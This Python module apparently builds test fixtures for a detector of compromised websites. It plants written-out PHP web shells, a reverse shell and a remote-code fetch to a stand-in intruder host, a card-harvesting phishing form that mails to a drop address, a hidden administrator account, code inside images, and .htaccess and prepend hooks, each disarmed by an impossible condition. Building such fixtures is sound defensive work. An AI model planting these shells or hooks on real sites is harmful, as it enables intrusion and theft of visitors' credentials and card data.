"""What the intruder put into the sites.

None of this PHP ever comes to act: no environment variable can hold a NUL byte, and every
line of it waits for one that does.
"""

from __future__ import annotations

import base64
from typing import Final

from pratique.demo import blog, shop
from pratique.demo.accounts import WWW_DATA
from pratique.demo.days import NIGHT, UPLOAD
from pratique.demo.disk import Disk
from pratique.demo.implant import Act, Implant, written
from pratique.demo.picture import ico, jpeg
from pratique.demo.visitors import INTRUDER, WEB_SHELL

_NEVER: Final = "getenv('PRATIQUE_DEMO') === chr(0)"
_UPLOADS: Final = f"{blog.ROOT}/content/uploads"
_PUBLIC: Final = f"{shop.ROOT}/public"
_ICON: Final = f"{_UPLOADS}/2026/02/favicon_4d1c.ico"
_PREPENDED: Final = f"{_PUBLIC}/images/.thumbs.php"

# One payload in many files, before what stood there.
INJECTED: Final = tuple(f"{blog.ROOT}/content/plugins/{name}/{name}.php" for name in blog.PLUGINS)
COPIES: Final = (
    f"{blog.ROOT}/admin/xk7q2v.php",
    f"{blog.ROOT}/content/themes/harbour/images/m4w8xk.php",
    f"{_PUBLIC}/css/q9t3zd.php",
)
_ALIKE: Final = f"{blog.ROOT}/lndex.php"
_PAYLOAD: Final = base64.b64encode(b"echo 'this is never shown';").decode()
_LINE: Final = f"<?php{' ' * 140}if ({_NEVER}) {{ eval(base64_decode('{_PAYLOAD}')); }} ?>"


def put(path: str, text: str | bytes, time: int = NIGHT) -> Act:
    """The act of putting a file of the web server's there."""
    return written(path, text, owner=WWW_DATA, time=time)


def guarded(*lines: str) -> str:
    """A program of these lines, which never come to act."""
    return "".join([f"<?php\nif ({_NEVER}) {{\n", *(f"    {line}\n" for line in lines), "}\n"])


def _injection(path: str) -> Act:
    """The line goes in, and the time of the file is put back."""

    def act(disk: Disk) -> None:
        disk.prepend(path, _LINE, disk[path].time)

    return act


def _escaped(path: str) -> str:
    return "".join(f"\\x{byte:02x}" for byte in path.encode())


def _hidden_include(disk: Disk) -> None:
    path = f"{blog.ROOT}/includes/locale.php"
    line = f'if ({_NEVER}) {{ @include "{_escaped(_ICON)}"; }}\n'
    disk.append(path, line, disk[path].time)


_FORM: Final = """?>
<!doctype html>
<title>Confirm your account</title>
<form method="post" action="index.php">
  <input name="email"> <input type="password" name="password"> <input name="card">
  <button>Go on</button>
</form>
"""
_REDIRECT: Final = """RewriteEngine On
RewriteCond %{HTTP_REFERER} (google|bing|duckduckgo)\\. [NC]
RewriteRule ^(.*)$ http://pills.example/$1 [R=302,L]
"""

IMPLANTS: Final = (
    Implant(
        f"{blog.ROOT}{WEB_SHELL}",
        "the web shell that came in by an upload",
        "web-php-runs-request",
        put(
            f"{blog.ROOT}{WEB_SHELL}",
            guarded("eval(base64_decode($_POST['k']));"),
            UPLOAD,
        ),
        also=("web-php-in-data-place",),
    ),
    Implant(
        f"{_PUBLIC}/js/jquery.min.php",
        "a web shell that runs commands",
        "web-php-runs-request",
        put(
            f"{_PUBLIC}/js/jquery.min.php",
            guarded("$f = 'sys' . 'tem';", "$f($_REQUEST['c']);"),
        ),
    ),
    *(
        Implant(
            path,
            "a line put before the code of a plug-in",
            "web-php-runs-decoded",
            _injection(path),
            also=("crowd-shared-block",),
        )
        for path in INJECTED
    ),
    *(
        Implant(
            path,
            "the same program under three names",
            "web-php-runs-request",
            put(path, guarded("assert($_POST['q']);")),
            also=("crowd-same-content",),
        )
        for path in COPIES
    ),
    Implant(
        _ALIKE,
        "a program whose name reads as index.php",
        "web-php-runs-request",
        put(_ALIKE, guarded("eval($_REQUEST['i']);")),
        also=("crowd-look-alike-name",),
    ),
    Implant(
        _ICON,
        "code in an icon",
        "web-php-in-image",
        put(
            _ICON,
            ico("favicon") + guarded("eval(gzinflate(base64_decode($_COOKIE['s'])));").encode(),
        ),
    ),
    Implant(
        f"{blog.ROOT}/includes/locale.php",
        "a line that brings the icon in",
        "web-php-hidden-include",
        _hidden_include,
    ),
    Implant(
        f"{_PUBLIC}/account/confirm/index.php",
        "a page that asks for a password and mails it",
        "web-credential-mailer",
        put(
            f"{_PUBLIC}/account/confirm/index.php",
            guarded(
                "$text = $_POST['email'] . ' ' . $_POST['password'] . ' ' . $_POST['card'];",
                "mail('collector@drop.example', 'one more', $text);",
            )
            + _FORM,
        ),
    ),
    Implant(
        f"{_UPLOADS}/.htaccess",
        "a rule that makes pictures run",
        "web-handler-runs-data",
        put(f"{_UPLOADS}/.htaccess", "AddHandler application/x-httpd-php .jpg .ico\n"),
    ),
    Implant(
        f"{_UPLOADS}/2026/02/quay-11.jpg",
        "a picture that holds code",
        "web-php-in-image",
        put(
            f"{_UPLOADS}/2026/02/quay-11.jpg",
            jpeg("quay 11") + guarded("eval(base64_decode($_POST['k']));").encode(),
        ),
    ),
    Implant(
        f"{_PUBLIC}/.user.ini",
        "a file that is run before every page",
        "web-php-prepend",
        put(f"{_PUBLIC}/.user.ini", f"auto_prepend_file = {_PREPENDED}\n"),
    ),
    Implant(
        _PREPENDED,
        "code under a hidden name",
        "web-php-hidden-name",
        put(_PREPENDED, guarded("assert(str_rot13($_COOKIE['lang']));")),
        also=("web-php-runs-request",),
    ),
    Implant(
        f"{_PUBLIC}/css/up.php",
        "a page that takes any file",
        "web-php-uploader",
        put(
            f"{_PUBLIC}/css/up.php",
            guarded("move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);"),
        ),
    ),
    Implant(
        f"{blog.ROOT}/content/themes/plain/functions.php",
        "a theme that fetches its code",
        "web-php-runs-remote",
        lambda disk: disk.append(
            f"{blog.ROOT}/content/themes/plain/functions.php",
            f"if ({_NEVER}) {{\n    eval(file_get_contents('http://{INTRUDER}/t.txt'));\n}}\n",
            NIGHT,
        ),
    ),
    Implant(
        f"{_PUBLIC}/css/print.php",
        "a page that writes a web shell",
        "web-php-drops-program",
        put(
            f"{_PUBLIC}/css/print.php",
            guarded("file_put_contents('../screen.php', '<?php eval($_POST[\"k\"]);');"),
        ),
    ),
    Implant(
        f"{_PUBLIC}/css/link.php",
        "a page that connects a shell to another machine",
        "web-php-shell-calls-out",
        put(
            f"{_PUBLIC}/css/link.php",
            guarded(
                f"$s = fsockopen('{INTRUDER}', 443);",
                "$p = proc_open('/bin/sh -i', [0 => $s, 1 => $s, 2 => $s], $pipes);",
            ),
        ),
    ),
    Implant(
        f"{blog.ROOT}/content/plugins/mail-list/support.php",
        "a plug-in that makes an administrator",
        "web-php-grants-account",
        put(
            f"{blog.ROOT}/content/plugins/mail-list/support.php",
            guarded(
                "$id = wp_create_user('helpdesk', 'made-up', 'helpdesk@drop.example');",
                "(new WP_User($id))->set_role('administrator');",
            ),
        ),
    ),
    Implant(
        f"{blog.ROOT}/includes/terms.php",
        "a line behind blanks",
        "web-php-hidden-line",
        put(
            f"{blog.ROOT}/includes/terms.php",
            f"<?php{' ' * 200}if ({_NEVER}) {{ ob_start('{'x' * 40}'); }}\n"
            "function blog_terms(): array { return []; }\n",
        ),
    ),
    Implant(
        f"{_PUBLIC}/.htaccess",
        "a rule that sends visitors of search engines elsewhere",
        "web-htaccess-redirect",
        put(f"{_PUBLIC}/.htaccess", _REDIRECT),
    ),
)
